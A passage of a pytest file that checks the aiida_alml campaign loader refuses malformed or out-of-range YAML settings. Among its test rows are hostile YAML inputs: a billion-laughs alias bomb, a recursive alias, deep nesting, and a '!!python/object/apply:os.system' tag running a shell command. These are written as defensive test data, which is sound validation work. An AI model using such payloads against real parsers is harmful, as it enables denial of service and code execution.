        with_shell(setting('label.shell.geometry_format', 'xyzz')), r"'xyzz' is not a format ASE can write"),
    Bad('label.shell.output_format', 'xyzz', 'not a format ASE reads',
        with_shell(setting('label.shell.output_format', 'xyzz')), r"'xyzz' is not a format ASE can read"),
    Bad('label.aims', 'an aims block beside labeller: ase', 'settings the chosen labeller ignores',
        setting('label.aims', copy.deepcopy(AIMS_LABEL['aims'])), r"label.aims: settings for labeller 'aims', but "
                                                                  r"labeller is 'ase'"),
    Bad('label.ase.calculator', '{name: lj, kwargs: {sigmaa: 2}}', 'a misspelt parameter LJ would ignore',
        setting('label.ase.calculator', {'name': 'lj', 'kwargs': {'sigmaa': 2}}),
        r"calculator 'lj' does not take kwargs \['sigmaa'\] \(did you mean sigma"),
    Bad('label.ase.jobs', '0', 'no job to label with', setting('label.ase.jobs', 0),
        r'label.ase.jobs: must be 1 to 256 jobs, got 0'),
    Bad('label.ase.calculator', '{name: gfn2-xtb, kwargs: {xtb_config: params.toml}}', 'reads a parameter file',
        setting('label.ase.calculator', {'name': 'gfn2-xtb', 'kwargs': {'xtb_config': 'params.toml'}}),
        r"calculator 'gfn2-xtb' does not take kwargs \['xtb_config'\]; it takes accuracy"),
    Bad('label.ase.calculator', '{name: gfn2-xtb, kwargs: {accurcy: 0.1}}', 'a misspelt xTB setting',
        setting('label.ase.calculator', {'name': 'gfn2-xtb', 'kwargs': {'accurcy': 0.1}}),
        r"does not take kwargs \['accurcy'\] \(did you mean accuracy"),
    Bad('label.ase.calculator', '{name: gfn1-xtb, kwargs: {electronic_temperature: -300}}', 'a negative temperature',
        setting('label.ase.calculator', {'name': 'gfn1-xtb', 'kwargs': {'electronic_temperature': -300}}),
        r"calculator 'gfn1-xtb': kwargs\['electronic_temperature'\] must be within \[1, 100000\], got -300"),
    Bad('label.ase.calculator', '{name: gfn2-xtb, kwargs: {charge: 0.5}}', 'a fractional total charge',
        setting('label.ase.calculator', {'name': 'gfn2-xtb', 'kwargs': {'charge': 0.5}}),
        r"kwargs\['charge'\] must be a whole number, got 0.5"),
    Bad('label.ase.calculator', '{name: emt, kwargs: {directory: /tmp}}', 'file handling of the calculator base class',
        setting('label.ase.calculator', {'name': 'emt', 'kwargs': {'directory': '/tmp'}}),
        r"calculator 'emt' does not take kwargs \['directory'\]; it takes asap_cutoff"),
]

CAMPAIGN_FILE = [
    Bad('campaign file', 'a 2 MiB comment', 'larger than 1 MiB (a 100 MB string took 114 s to parse)',
        yaml_text(lambda text: text + '# ' + 'x' * 2**21 + '\n'),
        r'bytes, more than a campaign file may hold \(1048576 bytes, 1 MiB\)'),
    Bad('label.ase.calculator.kwargs', 'billion laughs (3.8 KB, 9^9 values)',
        'aliases of aliases multiply: launch hung for over 100 s',
        yaml_text(lambda text: text.replace('      name: emt\n', '      name: emt\n' + LAUGHS)),
        r'`label.ase.calculator.kwargs.l\d\[\d\]` \(line \d+\): the file holds more than 20000 values, each alias '
        r'counted as the values it repeats'),
    Bad('label.ase.calculator.kwargs.loop', '&k {loop: *k}', 'an alias inside its own anchor (RecursionError on store)',
        yaml_text(lambda text: text.replace('      name: emt\n', '      name: emt\n      kwargs: &k {loop: *k}\n')),
        r'`label.ase.calculator.kwargs.loop` \(line \d+\): the alias \*k is inside the block it names'),
    Bad('label.ase.calculator.kwargs.deep', '5000 nested [', 'RecursionError while reading',
        yaml_text(lambda text: text.replace('      name: emt\n', '      name: emt\n      kwargs: {deep: ' + '[' * 5000
                                            + ']' * 5000 + '}\n')),
        r'`label.ase.calculator.kwargs.deep(\[0\])+` \(line \d+\): nested more than 32 levels deep'),
    Bad('max_labels', '0120', 'YAML 1.1 reads it as octal: 80',
        yaml_text(lambda text: text.replace('max_labels: 80', 'max_labels: 0120')),
        r"`max_labels` \(line \d+\): '0120' is not a plain whole number: YAML 1.1 reads a leading 0 as octal"),
    Bad('max_labels', '1:40', 'YAML 1.1 reads it in base 60: 100',
        yaml_text(lambda text: text.replace('max_labels: 80', 'max_labels: 1:40')),
        r"`max_labels` \(line \d+\): '1:40' is not a plain whole number: .*a:b as base 60"),
    Bad('top level', '1: foo', 'a key that is not a name (a traceback before)',
        yaml_text(lambda text: text + '1: foo\n'), r'key 1 at the top level \(line \d+\) is not text'),
    Bad('seed', '!!python/object/apply:os.system [...]', 'a Python tag',
        yaml_text(lambda text: text + 'seed: !!python/object/apply:os.system [touch /tmp/x]\n'),
        r'`seed` \(line \d+\): the YAML tag !!python/object/apply:os.system makes a value no input takes'),
    Bad('initial_structures', '10**30', 'a PK beyond 64 bits (OverflowError)', setting('initial_structures', 10**30),
        r'`initial_structures` \(line \d+\): 1000000000000000000000000000000 is beyond the 64-bit integers'),
]

BOUNDS = [
    Bad('initial_structures', 'a position of 1e300 Å', 'a coordinate beyond 10^4 Å (1 µm)',
        structure_file('initial_structures', FAR_XYZ),
        r'`initial_structures`: .*bad.xyz: structure 0 has a positions entry of 1e\+300 Å, beyond ±10000 Å'),
    Bad('exploration_structures', 'PK of a set with a cell 10^5 Å long', 'a cell entry beyond 10^4 Å, given as a node',
        stored_set('exploration_structures', HUGE_CELL_XYZ),
        r'exploration_structures: structure 0 has a cell entry of 100000 Å, beyond ±10000 Å'),
    Bad('test_set', 'REF_energy=abc', 'an energy that is not a number (ValueError)',
        structure_file('test_set', TEXT_ENERGY_XYZ),
        r"`test_set`: .*bad.xyz: configuration 0: the energy label 'abc' is not a number"),
    Bad('test_set', 'an element never labelled', 'silver held out in a copper campaign: no committee can predict it',
        structure_file('test_set', SILVER_LABELLED_XYZ),
        r"test_set: elements \['Ag'\] are absent from the training data"),
    Bad('explore.conditions', 'steps: 10**12', 'more MD steps than any job runs (10^8 at most)',
        setting('explore.conditions.0.steps', 10**12), r'explore.conditions\[0\]: steps must be at most 100000000'),
    Bad('explore.conditions', 'temperature: 1e12', 'hotter than 10^4 K',
        setting('explore.conditions.1.temperature', 1e12),
        r'explore.conditions\[1\]: temperature must be at most 10000 K, got 1e\+12'),
    Bad('explore.conditions', 'timestep: 100', 'a timestep above 10 fs',
        setting('explore.conditions.0.timestep', 100.0),
        r'explore.conditions\[0\]: timestep must be at most 10 fs, got 100'),
    Bad('explore.conditions', 'steps: 10**7, sample_interval: 1', '10^7 frames per run, each stored and scored',
        both(setting('explore.conditions.0.steps', 10**7), setting('explore.conditions.0.sample_interval', 1)),
        r'explore.conditions\[0\]: steps / sample_interval = 10000000 frames per run, more than 100000'),
    Bad('explore.conditions', 'device: cuda:7', 'GPU 7 on jobs that ask for no GPU (failed on the compute node)',
        setting('explore.conditions.0.device', 'cuda:7'),
        r"explore.conditions\[0\]: device 'cuda:7' needs each MD job to see at least 8 GPUs, but the job options "
        r'\(explore.md.metadata.options\) ask for no GPU: give `gpus: 8`'),
    Bad('explore.conditions', 'device: cuda:2 with gpus: 2', 'SLURM numbers a job\'s two GPUs 0 and 1',
        both(setting('explore.conditions.0.device', 'cuda:2'), setting('explore.md.metadata.options.gpus', 2)),
        r"device 'cuda:2' needs each MD job to see at least 3 GPUs, but .* ask for 2 GPUs \(cuda:0 to cuda:1\)"),
    Bad('explore_schedule', '[{temperature: 1e12}]', 'hotter than 10^4 K',
        setting('explore_schedule', [{'temperature': 1e12}]),
        r'explore_schedule\[0\] \(laid over explore.conditions\[0\]\): temperature must be at most 10000 K'),
    Bad('explore_schedule', '[{device: cuda}]', 'a GPU for jobs that ask for none',
        setting('explore_schedule', [{'device': 'cuda'}]),
        r"explore_schedule\[0\].*device 'cuda' needs each MD job to see at least 1 GPU, but"),
    Bad('explore_schedule', '[{ensemble: npt_berendsen, pressure: 1e9}]', 'a pressure above 10^7 bar (1 TPa)',
        setting('explore_schedule', [{'ensemble': 'npt_berendsen', 'pressure': 1e9}]),
        r'explore_schedule\[0\].*pressure must be at most 1e\+07 bar \(1 TPa\)'),
    Bad('explore_schedule', '1001 entries', 'one entry per iteration, more than 1000 iterations',
        setting('explore_schedule', [{'temperature': 300}] * 1001),
        r'explore_schedule: 1001 entries, one per iteration, but at most 1000 iterations'),
    Bad('validation', 'steps: 10**12', 'more MD steps than any job runs', setting('validation.steps', 10**12),
        r'validation: steps must be at most 100000000'),
    Bad('validation', 'temperature_factor: 100', '100 x 600 K: hotter than 10^4 K',
        setting('validation.temperature_factor', 100),
        r'validation: temperature_factor 100 x the hottest exploration \(600 K\) is 60000 K, above the MD bound of '
        r'10000 K'),
    Bad('validation', 'max_excursion_fraction: 2', 'a fraction above 1',
        setting('validation.max_excursion_fraction', 2),
        r'validation: max_excursion_fraction is a fraction of frames, at most 1'),
    Bad('initial_perturbation', 'count: 10**9', 'a billion copies built at launch',
        setting('initial_perturbation.count', 10**9), r'initial_perturbation: count must be at most 10000'),
    Bad('initial_perturbation', 'rattle_std: 1e300', 'copies 1e300 Å away',
        setting('initial_perturbation.rattle_std', 1e300),
        r'initial_perturbation: perturbed copy 0 has a positions entry of .* beyond ±10000 Å: lower rattle_std'
        r'|initial_perturbation: the perturbed copies are not structures'),
    Bad('selection', 'descriptor_bins: 10**6', 'bins far finer than the descriptors resolve',
        setting('selection.descriptor_bins', 10**6), r'selection: descriptor_bins must be at most 256, got 1000000'),
    Bad('selection', 'descriptor_r_cut: 1e6', 'neighbour lists of the whole structure',
        setting('selection.descriptor_r_cut', 1e6),
        r'selection: descriptor_r_cut must be at most 20 Å, got 1e\+06'),
    Bad('selection', 'labels_per_iteration: 10**7', 'more labels per iteration than 10^5',
        setting('selection.labels_per_iteration', 10**7), r'selection: labels_per_iteration must be at most 100000'),
    Bad('max_labels', '10**7', 'more than 10^6 reference calculations', setting('max_labels', 10**7),
        r'max_labels: must be at most 1000000, got 10000000'),
    Bad('max_iterations', '10**6', 'more than 1000 iterations', setting('max_iterations', 10**6),
        r'max_iterations: must be at most 1000, got 1000000'),
    Bad('patience', '10**6', 'more than 1000 iterations', setting('patience', 10**6),
        r'patience: must be at most 1000, got 1000000'),
    Bad('isolated_atom_box', '1e6', 'a box far larger than 100 Å', setting('isolated_atom_box', 1e6),
        r'isolated_atom_box: must be at most 100 Å, got 1e\+06'),
]

MODEL_FILES = [
    Bad('train.parent_models.member_0', 'a file name', 'models are nodes (MlipModel), not files',
        setting('train.parent_models', {'member_0': 'model.model', 'member_1': 'model.model'}),
        r'train.parent_models.member_0'),
]

CATALOGUE = (CAMPAIGN_KEYS + STRUCTURES + CODES + REFERENCE_CALCULATORS + JOB_OPTIONS + SCHEDULES_AND_MD + MACE_OPTIONS
             + FHI_AIMS + MODEL_FILES + SCHEDULER_SCRIPTS + SHELL_LABELLER
             + CAMPAIGN_FILE + BOUNDS)


# ---------------------------------------------------------------------- fixtures and tests
@pytest.fixture
def codes(aiida_localhost):
    """The codes the campaign names, on a computer labelled localhost (stand-ins: nothing runs here)."""
    from aiida.common.exceptions import NotExistent

    from aiida_alml.workflows.labellers.shell import allow_labeller

    for label, plugin in (('alml-label', 'alml.ase'), ('mace-train', 'alml.mace.train'), ('alml-md', 'alml.md'),
                          ('aims-bad-input', 'alml.aims'), ('ref-program', 'core.shell'),
                          ('undeclared-program', 'core.shell')):
        try:
            orm.load_code(f'{label}@localhost')
        except NotExistent:
            code = orm.InstalledCode(label=label, computer=aiida_localhost, filepath_executable='/bin/true',
                                     default_calc_job_plugin=plugin).store()
            if label == 'ref-program':
                allow_labeller(code)


@pytest.fixture
def folder(tmp_path):
    """The demo campaign's structure files, copied next to where the edited campaign is written."""
    for path in DEMO.parent.glob('*.xyz'):
        shutil.copy(path, tmp_path / path.name)
    return tmp_path


def _write(folder: pathlib.Path, campaign: dict | str) -> pathlib.Path:
    path = folder / 'campaign.yaml'
    path.write_text(campaign if isinstance(campaign, str) else yaml.safe_dump(campaign, sort_keys=False))
    return path


def _node_count() -> int:
    return orm.QueryBuilder().append(orm.Node).count()


def _demo() -> dict:
    return yaml.safe_load(DEMO.read_text())


@pytest.mark.parametrize('edit', [both(), with_aims(), with_shell()], ids=['emt', 'fhi-aims', 'shell'])
def test_the_unedited_campaigns_are_valid(codes, folder, edit):
    """Each row fails because of its edit: the campaigns it edits load and validate."""
    inputs = load_campaign(_write(folder, edit(_demo(), folder)))
    assert inputs['label']['labeller'].value in ('ase', 'aims', 'shell')


@pytest.mark.parametrize('row', CATALOGUE, ids=[row.id for row in CATALOGUE])
def test_bad_input_is_refused_naming_the_key_and_storing_nothing(codes, folder, row):
    path = _write(folder, row.edit(_demo(), folder))
    before = _node_count()
    with pytest.raises(row.error) as caught:
        load_campaign(path)
    message = str(caught.value)
    assert re.search(row.match, message, re.DOTALL), message
    assert row.key in message, f'the message does not name {row.key}: {message}'
    assert _node_count() == before


def test_catalogue_is_large_and_documented():
    assert len(CATALOGUE) >= 40
    assert len({row.id for row in CATALOGUE}) == len(CATALOGUE), 'two rows with the same key and given value'
    table = [line for line in DOCS.read_text().splitlines() if line.startswith('| ')]
    missing = [row.id for row in CATALOGUE
               if not any(f'`{row.key}`' in line and f'| {row.given} |' in line for line in table)]
    assert not missing, f'rows missing from the table in docs/reliability.md: {missing}'


def test_launch_reports_the_bad_input_before_looking_for_a_daemon(codes, folder, monkeypatch):
    """With no daemon the answer must still be the real error (and the budget of a good file).

    Another test may have left a daemon of the test profile running, so its absence is arranged here.
    """
    from aiida.engine.daemon import client as daemon_client
    from click.testing import CliRunner

    from aiida_alml.cli.campaign import launch

    class _NoDaemon:
        is_daemon_running = False

    monkeypatch.setattr(daemon_client, 'get_daemon_client', lambda *args, **kwargs: _NoDaemon())

    bad = _write(folder, setting('selection.labels_per_iteration', True)(_demo(), folder))
    before = _node_count()
    result = CliRunner().invoke(launch, [str(bad)])
    assert result.exit_code != 0
    assert 'labels_per_iteration must be a positive integer, got True' in result.output
    assert 'daemon' not in result.output
    good = _write(folder, _demo())
    result = CliRunner().invoke(launch, [str(good)])
    assert 'budget: max_labels = 80 reference calculations in all: 16 for the initial structures, up to 64 new ' \
           'labels bought by the loop' in result.output
    assert 'the daemon is not running' in result.output
    assert _node_count() == before


def test_unchecked_keywords_let_a_keyword_the_list_lacks_through(codes, folder):
    """The documented escape hatch: a keyword of a newer FHI-aims, named in `unchecked_keywords`, is written."""
    from aiida_alml.formats.aims_input import KNOWN_KEYWORDS, write_control_in

    assert 'brand_new_keyword' not in KNOWN_KEYWORDS
    edit = with_aims(setting('label.aims.aims.parameters.brand_new_keyword', 2),
                     setting('label.aims.aims.unchecked_keywords', ['brand_new_keyword']))
    inputs = load_campaign(_write(folder, edit(_demo(), folder)))
    assert inputs['label']['aims']['aims']['unchecked_keywords'].get_list() == ['brand_new_keyword']
    text = write_control_in({'xc': 'pbe', 'brand_new_keyword': 2}, periodic=False, unchecked=['brand_new_keyword'])
    assert 'brand_new_keyword 2\n' in text


def test_close_contact_matches_ase_neighbour_list_in_skewed_cells():
    """Minimum-image distances through periodic images, also in thin and skewed cells, as ASE's neighbour list."""
    import numpy as np
    from ase import Atoms
    from ase.neighborlist import neighbor_list

    from aiida_alml.atoms.configurations import Configurations, close_contact

    rng = np.random.default_rng(3)
    for _ in range(200):
        cell = np.eye(3) * rng.uniform(0.9, 3.0) + rng.normal(0.0, 0.6, (3, 3))
        atoms = Atoms('H6', cell=cell, pbc=rng.uniform(size=3) < 0.8, scaled_positions=rng.uniform(0, 1, (6, 3)))
        if abs(np.linalg.det(cell)) < 0.5:
            continue
        found = close_contact(Configurations.from_ase([atoms]))
        distances = neighbor_list('d', atoms, 0.5)
        if len(distances):
            assert found is not None and found[3] == pytest.approx(distances.min())
        else:
            assert found is None
